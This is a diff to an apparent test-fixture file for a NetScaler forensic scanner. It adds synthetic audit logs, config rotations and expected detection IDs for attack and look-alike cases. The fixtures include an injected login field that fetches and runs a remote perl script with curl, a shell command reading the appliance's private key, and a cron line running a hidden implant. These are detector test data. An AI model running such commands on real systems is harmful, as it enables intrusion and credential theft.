@@ -207,6 +207,41 @@ NS_CONF_BAD = NS_CONF_CLEAN + (
 )
 
 
+def _nslog(event: str, text: str) -> str:
+    return f"Nov 19 03:00:00 <local0.info> 10.0.0.10 11/19/2026:03:00:00 GMT ns 0-PPE-0 : default {event} 0 : {text}\n"
+
+
+# ns.log audit records in the documented CMD_EXECUTED shape (docs.netscaler.com "Logs"); a failed
+# NITRO login from a public address, CISA's keyword pair, and an Arctic Wolf injected AAA field.
+NITRO_BAD = (
+    _nslog("API CMD_EXECUTED 9101", ' User nsroot - ADM_User NONE - Remote_ip 93.184.216.34 - Command "login nsroot" '
+           '- Status "ERROR: Invalid username or password"')
+    + _nslog("API CMD_EXECUTED 9102", ' User admin - ADM_User NONE - Remote_ip 93.184.216.34 - Command "login admin" '
+             '- Status "ERROR: Invalid username or password"')
+    + _nslog("SSLVPN Message 9103", '"AAAD API: sending login req to aaad for <pitboss PPE unexpectedly died NSPPE;curl '
+             'http://64.94.85.67:443/update_c08937.pl | perl;# X>, factor <x>, auth type 4129"')
+    + 'Nov 19 03:10:00 <local0.info> 10.0.0.10 httpd: "POST /nf/auth/doAuthentication.do" '
+      'login=pitboss%20PPE%20unexpectedly%20died%20NSPPE%3B\n'
+)
+# look-alikes: failed logins from inside (RFC 1918, CGNAT), a successful one from outside, a failed
+# non-login command, and NetScaler's own monitoring client (user agent "nsmonitor" on 127.0.0.1)
+NITRO_LOOKALIKE = (
+    _nslog("API CMD_EXECUTED 9201", ' User nsroot - ADM_User NONE - Remote_ip 10.0.0.5 - Command "login nsroot" '
+           '- Status "ERROR: Invalid username or password"')
+    + _nslog("GUI CMD_EXECUTED 9202", ' User nsroot - Remote_ip 100.64.1.9 - Command "login nsroot" - Status "ERROR: x"')
+    + _nslog("API CMD_EXECUTED 9203", ' User nsroot - ADM_User NONE - Remote_ip 93.184.216.34 - Command "login nsroot" '
+             '- Status "Success"')
+    + _nslog("API CMD_EXECUTED 9204", ' User nsroot - ADM_User NONE - Remote_ip 93.184.216.34 - Command "show ns license" '
+             '- Status "ERROR: Not licensed"')
+    + _nslog("API CMD_EXECUTED 9205", ' User nsroot - ADM_User NONE - Remote_ip 127.0.0.1 - Command "login nsroot" '
+             '- Status "ERROR: Invalid username or password"')
+)
+NSMONITOR_ACCESS = (
+    '127.0.0.1 - - [20/Nov/2026:09:00:00 +0000] "GET /nitro/v1/stat/system HTTP/1.1" 200 800 "-" "nsmonitor"\n'
+    '127.0.0.1 - - [20/Nov/2026:09:00:05 +0000] "GET /nitro/v1/config/nsmonitor HTTP/1.1" 200 120 "-" "nsmonitor"\n'
+)
+
+
 def _listing_row(path: str, size: int, mode: int, mtime: float, ctime: float, birth: float, uid: int = 0) -> str:
     return f"{path},{size},{uid},0,{mode:o},1234,1,{mtime:.9f},{mtime:.9f},{ctime:.9f},{birth:.9f}\n"
 
@@ -282,6 +317,17 @@ FAMILIES: dict[str, tuple[list[Spec], list[Spec], set[str]]] = {
         [],
         {"NL-IMG-ns-conf", "NS-26-rogue-admin"},
     ),
+    "ns_conf_history": (
+        # the base ns.conf has admin2; rotations without it make admin2 a new administrator
+        [f("/nsconfig/ns.conf.0", NS_CONF_CLEAN.replace("add system user admin2 -timeout 900\n", "")),
+         f("/nsconfig/ns.conf.1", NS_CONF_CLEAN.replace("add system user admin2 -timeout 900\n", "")
+           + 'bind system user admin2 superuser 100\n')],
+        # look-alike: the same user in an older rotation (a bind line names it too) is not new
+        [f("/nsconfig/ns.conf.0", NS_CONF_CLEAN),
+         f("/nsconfig/ns.conf.1", NS_CONF_CLEAN.replace("add system user admin2 -timeout 900\n",
+                                                         'add system user "admin2" -timeout 600\n'))],
+        {"NS-26-new-system-user"},
+    ),
     "yara": (
         [f("/var/core/2/NSPPE-00-12345.gz",
            gzip.compress(ELF + b"\x00" * 4096 + b"python3 -c import hs/pmt/rav/ " + b"\x00" * 4096, mtime=0))],
@@ -309,10 +355,15 @@ FAMILIES: dict[str, tuple[list[Spec], list[Spec], set[str]]] = {
           ).encode("latin-1")),
          f("/var/log/httpaccess.log.0.gz", _gz(
             '91.107.190.236 - - [19/Nov/2026:01:30:00 +0000] "GET /logon/LogonPoint/tmindex.php HTTP/1.1" 200 41 "-" "curl/8"\n')),
-         f("/var/log/sh.log", 'Nov 19 02:00:00 <local7.notice> ns sh[9]: nsroot on /dev/pts/1 shell_command="cat /flash/nsconfig/keys/ns-server.key"\n')],
-        [],
+         f("/var/log/sh.log", 'Nov 19 02:00:00 <local7.notice> ns sh[9]: nsroot on /dev/pts/1 shell_command="cat /flash/nsconfig/keys/ns-server.key"\n'),
+         f("/var/log/ns.log.2", NITRO_BAD.encode("latin-1")),
+         f("/var/log/cron.1", "Nov 19 05:00:00 ns /usr/sbin/cron[88]: (root) CMD (perl /var/tmp/.nsmon/nsmon.pl >/dev/null 2>&1)\n")],
+        [f("/var/log/ns.log.2", NITRO_LOOKALIKE.encode("latin-1")),
+         f("/var/log/httpaccess.log.1", NSMONITOR_ACCESS),
+         f("/var/log/bash.log.1", 'Nov 20 11:00:00 <local7.notice> ns bash[7]: nsroot on /dev/pts/0 shell_command="grep -c nsmon.pl /var/log/cron"\n')],
         {"NS-LOG-aaa-nonascii", "NS-LOG-tcpconnstat-ip-mismatch", "NS-26-staged-command", "NS-LOG-webshell-request",
-         "M23-shell-history", "NS-LOG-ioc-network"},
+         "M23-shell-history", "NS-LOG-ioc-network", "NS-26-nitro-login-failed-public", "CISA-CMA-citrix-88771",
+         "AW-26-nsmon-implant"},
     ),
 }
 
